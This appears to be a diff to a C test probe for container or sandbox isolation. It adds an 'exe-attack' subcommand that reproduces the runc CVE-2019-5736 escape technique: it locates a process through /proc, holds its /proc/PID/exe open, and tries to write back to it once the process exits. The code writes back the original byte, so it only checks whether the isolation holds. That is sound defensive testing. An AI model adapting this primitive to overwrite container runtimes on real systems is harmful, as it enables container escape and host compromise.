@@ -11,6 +11,12 @@
  *   vert-probe tiocsti           push a byte into each tty of fds 0-2
  *                                and /dev/tty (TIOCSTI), print the result
  *   vert-probe open-write PATH   open PATH for writing, print the result
+ *   vert-probe exe-attack ARG FIFO
+ *                                the runc CVE-2019-5736 attack: find the
+ *                                process whose argv[0] or [1] is ARG, open its
+ *                                /proc/PID/exe, release it (open FIFO for
+ *                                writing), and once it is gone try to
+ *                                write its first byte back through the fd
  */
 
 #include <dirent.h>
@@ -179,6 +185,81 @@ static int open_write(const char *path)
 	return 0;
 }
 
+static pid_t find_argv1(const char *arg)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	pid_t found = 0;
+
+	while (d && (de = readdir(d)) && !found) {
+		char p[64], buf[4096];
+		ssize_t n;
+		int fd;
+		if (atoi(de->d_name) <= 0 || atoi(de->d_name) == getpid())
+			continue;
+		snprintf(p, sizeof(p), "/proc/%d/cmdline", atoi(de->d_name));
+		fd = open(p, O_RDONLY);
+		if (fd < 0)
+			continue;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		if (n <= 0)
+			continue;
+		buf[n] = '\0';
+		size_t l0 = strlen(buf);
+		if (strcmp(buf, arg) == 0 ||
+		    ((ssize_t)l0 + 1 < n && strcmp(buf + l0 + 1, arg) == 0))
+			found = atoi(de->d_name);
+	}
+	if (d)
+		closedir(d);
+	return found;
+}
+
+static int exe_attack(const char *arg, const char *fifo)
+{
+	char p[64], t[PATH_MAX];
+	pid_t pid = 0;
+	int fd, wfd;
+	ssize_t n;
+	char c;
+
+	for (int i = 0; i < 200 && !(pid = find_argv1(arg)); i++)
+		usleep(50000);
+	if (!pid) {
+		puts("target=notfound");
+		return 1;
+	}
+	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+	fd = open(p, O_RDONLY);
+	if (fd < 0) {
+		printf("exe=%s\n", strerrorname_np(errno));
+	} else {
+		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+		n = readlink(p, t, sizeof(t) - 1);
+		t[n > 0 ? n : 0] = '\0';
+		printf("exe=%s\n", t);
+	}
+	/* release the target: its loader reads an empty preload */
+	close(open(fifo, O_WRONLY));
+	for (int i = 0; i < 200 && kill(pid, 0) == 0; i++)
+		usleep(50000);
+	if (fd < 0)
+		return 0;
+	/* what is written is what was there: a write that works changes
+	 * nothing, but shows that it could */
+	wfd = open(p, O_WRONLY);
+	if (wfd < 0) {
+		printf("write=%s\n", strerrorname_np(errno));
+		return 0;
+	}
+	if (pread(fd, &c, 1, 0) != 1 || pwrite(wfd, &c, 1, 0) != 1)
+		printf("write=%s\n", strerrorname_np(errno));
+	else
+		puts("write=ok");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc >= 2 && strcmp(argv[1], "syscalls") == 0)
@@ -195,7 +276,9 @@ int main(int argc, char **argv)
 		return tiocsti();
 	if (argc >= 3 && strcmp(argv[1], "open-write") == 0)
 		return open_write(argv[2]);
+	if (argc >= 4 && strcmp(argv[1], "exe-attack") == 0)
+		return exe_attack(argv[2], argv[3]);
 	fprintf(stderr, "usage: vert-probe syscalls|fds|zombies N|exe-write|nesting|tiocsti|"
-			"open-write PATH\n");
+			"open-write PATH|exe-attack ARG FIFO\n");
 	return 2;
 }
